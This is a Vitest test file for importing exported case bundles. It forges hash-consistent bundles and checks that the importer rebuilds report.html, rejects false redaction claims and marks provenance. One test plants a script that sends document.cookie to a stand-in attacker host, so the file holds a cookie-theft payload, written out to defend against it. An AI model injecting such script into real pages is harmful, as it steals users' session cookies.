import { createHash } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportCaseBundle } from '../../../src-main/services/cases/bundle/bundle-writer';
import { importCaseBundle } from '../../../src-main/services/cases/bundle/bundle-import';
import { CaseStore } from '../../../src-main/services/cases/case-store';
import { ensureDemoShellBundle } from '../../support/demo-shell-bundle';
import { createTestBackend } from '../../support/test-backend';
import { createFixtureCase, IDENTIFIERS, type FixtureCase } from './support/case-fixture';
import { buildRawZip } from './support/raw-zip';
import { readZipEntries } from './support/zip-entries';

// A bundle's hashes prove it is consistent, not who made it. So on import the app keeps nothing
// it would have to trust: report.html is rebuilt from case.json, a "redacted" claim is checked
// against the content, and the case says it came from a file.
let fixture: FixtureCase;
let plain: Map<string, Buffer>;
let redacted: Map<string, Buffer>;
const sha = (data: Buffer) => createHash('sha256').update(data).digest('hex');

beforeAll(async () => {
  fixture = await createFixtureCase();
  const folder = fixture.store.folderOf(fixture.doc.id);
  await exportCaseBundle({ caseFolder: folder, outPath: path.join(fixture.root, 'plain.zip'), appVersion: '1.0.0' });
  await exportCaseBundle({ caseFolder: folder, outPath: path.join(fixture.root, 'redacted.zip'), appVersion: '1.0.0', redact: true });
  plain = await readZipEntries(path.join(fixture.root, 'plain.zip'));
  redacted = await readZipEntries(path.join(fixture.root, 'redacted.zip'));
});
afterAll(() => fixture.cleanup());

/** A consistent bundle (every hash matches) built from changed entries, as an attacker would. */
async function forged(name: string, base: Map<string, Buffer>, change: (entries: Map<string, Buffer>, manifest: Record<string, unknown>) => void) {
  const entries = new Map(base);
  const manifest = JSON.parse(entries.get('manifest.json')!.toString('utf8')) as Record<string, unknown> & { files: Array<{ path: string }> };
  change(entries, manifest);
  // case.json records each evidence file's size and hash too; keep it consistent.
  const doc = JSON.parse(entries.get('case.json')!.toString('utf8')) as { evidence: Array<{ fileName?: string; size?: number; sha256?: string }> };
  for (const item of doc.evidence) {
    const data = item.fileName !== undefined ? entries.get(`evidence/${item.fileName}`) : undefined;
    if (data !== undefined) Object.assign(item, { size: data.length, sha256: sha(data) });
  }
  entries.set('case.json', Buffer.from(JSON.stringify(doc, null, 2)));
  manifest.files = manifest.files.map((f) => ({ path: f.path, size: entries.get(f.path)!.length, sha256: sha(entries.get(f.path)!) }));
  entries.set('manifest.json', Buffer.from(JSON.stringify(manifest)));
  const dir = path.join(fixture.root, name);
  await mkdir(dir, { recursive: true });
  const zipPath = path.join(dir, 'bundle.zip');
  await writeFile(zipPath, buildRawZip([...entries].map(([n, data]) => ({ name: n, data, deflate: true }))));
  return { zipPath, library: new CaseStore(path.join(dir, 'library')) };
}

describe('importing a bundle trusts nothing it can rebuild or check', () => {
  it('rebuilds report.html from case.json and never keeps the shipped one', async () => {
    const { zipPath, library } = await forged('script-report', plain, (entries) => {
      entries.set('report.html', Buffer.from('<!doctype html><script>fetch("https://evil.example/?"+document.cookie)</script>SHIPPED'));
    });
    const doc = await importCaseBundle(library, zipPath);
    const report = await readFile(path.join(library.folderOf(doc.id), 'report.html'), 'utf8');
    expect(report).not.toContain('SHIPPED');
    expect(report).not.toMatch(/<script/i);
    expect(report).toContain(doc.id);
  });

  it('refuses a bundle that claims to be redacted but names people, devices and addresses', async () => {
    const { zipPath, library } = await forged('false-claim', plain, (_entries, manifest) => {
      manifest.redacted = true;
    });
    const error = await importCaseBundle(library, zipPath).then(() => undefined, (e: unknown) => e as { name: string; reason: string; message: string });
    expect(error?.name).toBe('BundleRefusedError');
    expect(error?.reason).toBe('redaction-claim-false');
    expect(error?.message).toMatch(/says it is redacted/);
    expect((await library.list()).cases).toEqual([]);
  });

  it('refuses a redacted bundle with one real address slipped into an evidence file', async () => {
    const { zipPath, library } = await forged('one-leak', redacted, (entries) => {
      const log = [...entries.keys()].find((n) => n.startsWith('evidence/') && n.endsWith('.txt'))!;
      entries.set(log, Buffer.concat([entries.get(log)!, Buffer.from(`\r\nX-Forwarded-For: ${IDENTIFIERS.ipv4}\r\n`)]));
    });
    await expect(importCaseBundle(library, zipPath)).rejects.toMatchObject({ reason: 'redaction-claim-false' });
  });

  it('accepts a bundle the app really redacted', async () => {
    const { zipPath, library } = await forged('honest', redacted, () => undefined);
    const doc = await importCaseBundle(library, zipPath);
    expect(doc.imported).toMatchObject({ redacted: true });
  });
});

describe('an imported case says where it came from', () => {
  const sender = createTestBackend();
  const reviewer = createTestBackend();
  beforeAll(() => ensureDemoShellBundle());
  afterAll(() => Promise.all([sender.dispose(), reviewer.dispose()]));

  it('carries "imported from a file" provenance in its view; a case made here does not', async () => {
    const started = await sender.engine.startCase({ userUpn: 'alex.wilber@contoso.example', symptom: 'no mail' }, { kind: 'demo', scenario: 'healthy-iphone' });
    await sender.engine.settled(started.caseId);
    expect((await sender.engine.getCase(started.caseId)).provenance).toEqual({ kind: 'created-here' });
    const { filePath } = await sender.library.exportCase(started.caseId, true);
    const imported = await reviewer.library.importBundle(filePath);
    expect(imported.provenance).toMatchObject({ kind: 'imported-from-file', redacted: true, appVersion: '0.0.0-test' });
    expect(imported.readOnly).toBe(true);
  });
});
